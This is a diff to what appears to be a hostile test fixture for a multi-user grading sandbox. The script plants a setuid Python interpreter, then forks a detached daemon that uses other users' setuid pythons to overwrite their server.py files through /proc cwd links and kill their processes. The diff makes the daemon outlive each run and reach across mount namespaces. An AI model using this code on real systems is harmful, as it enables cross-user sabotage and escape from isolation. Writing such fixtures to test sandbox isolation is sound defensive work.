@@ -1,10 +1,9 @@
 # Hostile (issue 19): graded last, beside the last victims. Plants its own setuid python, then
-# for 60 s (bounded) runs every setuid python planted by another uid: as that uid, it overwrites
-# the server.py of every process of that uid (a classmate graded now under it) and kills them.
-# Then serves correctly.
+# for 60 s (bounded), from a daemon that outlives each of its own server's runs, runs every setuid
+# python planted by another uid: as that uid, it overwrites the server.py of every process of
+# that uid (a classmate graded now under it) and kills them. Then serves correctly.
 import os
 import subprocess
-import threading
 import time
 
 from _attack import plant_setuid_python, planted_pythons, serve
@@ -17,8 +16,9 @@ for pid in filter(str.isdigit, os.listdir("/proc")):
         if os.stat("/proc/" + pid).st_uid != uid or uid == os.getuid():
             continue
         cwd = os.readlink("/proc/%s/cwd" % pid)
-        if cwd != me and os.path.isfile(os.path.join(cwd, "server.py")):
-            with open(os.path.join(cwd, "server.py"), "w") as fh:
+        target = "/proc/%s/cwd/server.py" % pid  # the magic link: any mount namespace
+        if cwd != me and os.path.isfile(target):
+            with open(target, "w") as fh:
                 fh.write("raise SystemExit('sabotaged by x_zz_hop')\n")
             os.kill(int(pid), signal.SIGKILL)
     except OSError:
@@ -39,5 +39,11 @@ def hop():
 
 
 plant_setuid_python()
-threading.Thread(target=hop, daemon=True).start()
+if os.fork() == 0:
+    os.setsid()
+    devnull = os.open(os.devnull, os.O_RDWR)  # a daemon lets go of the suite's pipes
+    for fd in (0, 1, 2):
+        os.dup2(devnull, fd)
+    hop()
+    os._exit(0)
 serve()
